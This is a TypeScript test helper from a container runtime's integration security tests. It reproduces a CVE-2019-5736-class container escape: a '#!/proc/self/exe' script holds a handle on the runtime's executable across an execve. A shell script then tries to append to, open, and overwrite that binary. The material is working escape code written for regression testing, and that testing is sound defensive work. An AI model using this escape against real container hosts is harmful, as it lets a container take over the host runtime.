// The CVE-2019-5736-class attack on the runtime's engine, shared by the root
// (integration/security-engine) and the rootless (integration/rootless) tests:
// a container whose entrypoint starts with `#!/proc/self/exe` makes the kernel
// run the init's own executable (bin/toyrun: Bun's engine with toyrun compiled
// in) as the container's process; with BUN_BE_BUN=1 in its environment (the
// container's to choose: ATTACK_ENV) that engine acts as plain Bun and reads the
// rest as JavaScript. It keeps a handle on the engine
// across an execve of sh, waits until no runtime process executes the engine any
// more (ETXTBSY gone), and reopens it for writing: append, read-write, write-only.
import { statfsSync } from 'node:fs';
import { join } from 'node:path';
import { REPO } from './helpers';

/** The container process's environment variable that makes a compiled Bun executable run a script. */
export const ATTACK_ENV = 'BUN_BE_BUN=1';

export const ATTACK_EXE = `#!/proc/self/exe
const fs = require('fs');
const { dlopen, ptr } = require('bun:ffi');
const c = dlopen('libc.so.6', {
  open: { args: ['ptr', 'i32'], returns: 'i32' },
  execve: { args: ['ptr', 'ptr', 'ptr'], returns: 'i32' },
}).symbols;
try { console.log('exe on fs 0x' + fs.statfsSync('/proc/self/exe').type.toString(16)); } catch (e) { console.log('exe statfs: ' + e.code); }
for (const [mode, flags] of [['append', 'a'], ['rdwr', 'r+']]) {
  try { fs.closeSync(fs.openSync('/proc/self/exe', flags)); console.log('self-exe ' + mode + ': OPENED'); }
  catch (e) { console.log('self-exe ' + mode + ': ' + e.code); }
}
const str = (s) => Buffer.from(s + '\\0');
const fd = c.open(ptr(str('/proc/self/exe')), 0); // no O_CLOEXEC: it survives the execve
const args = ['sh', '/reopen', String(fd)].map(str);
const argv = new BigUint64Array([...args.map((b) => BigInt(ptr(b))), 0n]);
c.execve(ptr(str('/bin/sh')), ptr(argv), ptr(new BigUint64Array([0n])));
console.log('execve failed');
`;
export const REOPEN = `fd=$1
i=0
while [ $i -lt 400 ] && (exec 9<>/proc/self/fd/$fd) 2>&1 | grep -q busy; do sleep 0.05; i=$((i+1)); done
echo "waited $i"
if (echo pwned >>/proc/self/fd/$fd) 2>/tmp/e; then echo "append: WROTE"; else echo "append: $(cat /tmp/e)"; fi
if (exec 9<>/proc/self/fd/$fd) 2>/tmp/e; then echo "rdwr: OPENED"; else echo "rdwr: $(cat /tmp/e)"; fi
if dd if=/dev/zero of=/proc/self/fd/$fd bs=1 count=1 conv=notrunc 2>/tmp/e; then echo "wronly: WROTE"; else echo "wronly: $(cat /tmp/e)"; fi
`;

/** statfs(2)'s f_type of overlayfs, as ATTACK_EXE prints it ("exe on fs 0x..."). */
export const OVERLAYFS_SUPER_MAGIC = '0x794c7630';

/** Whether the runtime's seal (src/linux/seal.ts) is an overlay on this kernel:
 * 6.1's overlayfs refuses the seal's detached lower layer ("failed to clone
 * lowerpath", EINVAL) and the seal is the read-only bind clone there. Asked of
 * sealRuntime itself, for the checkout's tree. */
export function sealIsOverlay(): boolean {
  const g = globalThis as { toyrunBundleDir?: string };
  const before = g.toyrunBundleDir;
  g.toyrunBundleDir = join(REPO, 'dist');
  try {
    const sealed = (require('../src/linux/seal') as typeof import('../src/linux/seal')).sealRuntime();
    try {
      return statfsSync(`/proc/self/fd/${sealed.trees[0]?.fd}`).type === Number(OVERLAYFS_SUPER_MAGIC);
    } finally {
      sealed.close();
    }
  } finally {
    g.toyrunBundleDir = before;
  }
}
